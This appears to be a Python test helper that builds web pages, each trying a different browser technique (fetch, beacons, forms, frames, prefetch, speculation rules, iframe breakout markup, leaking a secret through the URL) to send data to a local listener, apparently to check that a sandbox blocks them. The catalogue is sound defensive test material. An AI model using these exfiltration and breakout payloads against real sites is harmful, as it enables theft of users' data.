"""Pages that try to send something away, each in a way of its own, and somebody who notes what arrives."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from urllib.parse import quote

SCRIPTS = {
    "fetch": "fetch(AWAY, {mode: 'no-cors'})",
    "fetch that outlives the page": "fetch(AWAY, {mode: 'no-cors', method: 'POST', body: 'x', keepalive: true})",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', AWAY); x.send()",
    "beacon": "navigator.sendBeacon(AWAY, 'x')",
    "image": "new Image().src = AWAY",
    "event source": "new EventSource(AWAY)",
    "web socket": "new WebSocket(AWAY.replace('http', 'ws'))",
    "web transport": "new WebTransport(AWAY.replace('http:', 'https:'))",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${AWAY}', {mode: 'no-cors'})`])))",
    "service worker": "navigator.serviceWorker.register(AWAY)",
    "import": "import(AWAY)",
    "font": "new FontFace('x', `url(${AWAY})`).load()",
    "location": "location.href = AWAY",
    "location, later": "setTimeout(() => location.replace(AWAY), 300)",
    "location of the top": "top.location = AWAY",
    "location of the parent": "parent.location = AWAY",
    "new window": "open(AWAY)",
    "window for another": "const w = open('about:blank'); w.location = AWAY",
    "click on a link": "click(`<a href='${AWAY}'>x</a>`)",
    "click on a link to the top": "click(`<a target=_top href='${AWAY}'>x</a>`)",
    "click on a link to a new window": "click(`<a target=_blank href='${AWAY}'>x</a>`)",
    "click on a link to save": "click(`<a download href='${AWAY}'>x</a>`)",
    "click on a link with a ping": "click(`<a href='#x' ping='${AWAY}'>x</a>`)",
    "form": "put(`<form method=post action='${AWAY}'><input name=a></form>`); document.forms[0].submit()",
    "form to a new window": "put(`<form target=_blank action='${AWAY}'></form>`); document.forms[0].submit()",
    "frame": "put(`<iframe src='${AWAY}'></iframe>`)",
    "frame with its own page": "put(`<iframe srcdoc=\"<meta http-equiv=refresh content='0;${AWAY}'>\"></iframe>`)",
    "frame that is led away": "put('<iframe></iframe>'); frames[0].location = AWAY",
    "object": "put(`<object data='${AWAY}'></object><embed src='${AWAY}'>`)",
    "video": "put(`<video src='${AWAY}' poster='${AWAY}p' autoplay></video><audio src='${AWAY}' autoplay></audio>`)",
    "picture in a picture": "put(`<svg><image href='${AWAY}'/><use href='${AWAY}#x'/></svg>`)",
    "style": "put(`<div style=\"background: url('${AWAY}')\">x</div>`)",
    "style sheet": "put(`<style>@import '${AWAY}';</style><link rel=stylesheet href='${AWAY}'>`)",
    "refresh": "document.head.innerHTML += `<meta http-equiv=refresh content='0;url=${AWAY}'>`",
    "prefetch": "link('prefetch')",
    "preload": "for (const kind of ['script', 'style', 'image', 'font', 'fetch']) link('preload', kind)",
    "module preload": "link('modulepreload')",
    "prerender": "link('prerender')",
    "manifest and icon": "link('manifest'), link('icon')",
    "preconnect": "link('preconnect')",
    "speculation rules": (
        "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify("
        "{prefetch: [{source: 'list', urls: [AWAY], eagerness: 'immediate'}], "
        "prerender: [{source: 'list', urls: [AWAY], eagerness: 'immediate'}]}); document.head.append(s)"
    ),
    "base": "document.head.innerHTML += `<base href='${AWAY}'>`; new Image().src = 'x.png'; location.href = 'y'",
    "history": "history.pushState(null, '', AWAY)",
    "data page": "location.href = `data:text/html,<script>location='${AWAY}'</scr` + `ipt>`",
    "blob page": "location.href = URL.createObjectURL(new Blob([`<img src='${AWAY}'>`], {type: 'text/html'}))",
    "script page": "location.href = `javascript:location='${AWAY}'`",
    "its own address": "location.href = '/dashboards/other/?' + SECRET; setTimeout(() => location.href = AWAY, 300)",
}
"""Ways to send something away, by what they are called."""

MARKUP = {
    "refresh in the page": "<meta http-equiv=refresh content='0;url=AWAY'>",
    "image in the page": "<img src='AWAY'>",
    "preconnect in the page": "<link rel=preconnect href='AWAY'><link rel=dns-prefetch href='AWAY'>",
    "style in the page": "<style>@import 'AWAY'; body { background: url('AWAY') }</style>",
    "script in the page": "<script src='AWAY'></script>",
    "frame in the page": "<iframe src='AWAY'></iframe>",
    "end of a frame": "\"></iframe><img src='AWAY'><script>location = 'AWAY'</script><iframe srcdoc=\"",
}

PLACE = "http://127.0.0.1:PORT/NAME"

TOOLS = """
const AWAY = 'PLACE', SECRET = 'NAME';
const put = (html) => document.body.insertAdjacentHTML('beforeend', html);
const click = (html) => { put(html); document.body.lastElementChild.click(); };
const link = (rel, as) => {
  const made = document.createElement('link');
  made.rel = rel; made.href = AWAY; if (as) made.as = as;
  document.head.append(made);
};
addEventListener('load', () => { try { ATTEMPT; } catch (error) { console.log(error); } });
"""


def pages(port: int) -> dict[str, str]:
    """A page for each way, which asks this machine's port for the way's name."""
    scripts = {name: f"<body><script>{TOOLS.replace('ATTEMPT', script)}</script>" for name, script in SCRIPTS.items()}
    texts = scripts | {name: html.replace("AWAY", "PLACE") for name, html in MARKUP.items()}
    made = {}
    for name, text in texts.items():
        place = PLACE.replace("PORT", str(port)).replace("NAME", quote(name))
        made[name] = "<!doctype html>" + text.replace("PLACE", place).replace("NAME", quote(name))
    return made


@contextmanager
def listening() -> Iterator[tuple[int, list[bytes]]]:
    """A port of this machine, and what arrives there over TCP and UDP: of requests their first line."""
    arrived: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as tcp, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        port = tcp.getsockname()[1]
        udp.bind(("127.0.0.1", port))
        udp.settimeout(0.1)
        tcp.settimeout(0.1)
        over = threading.Event()

        def answer(connection: socket.socket) -> None:
            with connection, suppress(OSError):
                connection.settimeout(5)
                while request := connection.recv(65_536):
                    arrived.append(request.split(b"\r\n")[0])
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 1\r\n\r\nx")

        def take() -> None:
            while not over.is_set():
                with suppress(TimeoutError):
                    threading.Thread(target=answer, args=(tcp.accept()[0],), daemon=True).start()
                with suppress(TimeoutError):
                    arrived.append(udp.recv(2000))

        taking = threading.Thread(target=take)
        taking.start()
        yield port, arrived
        over.set()
        taking.join()
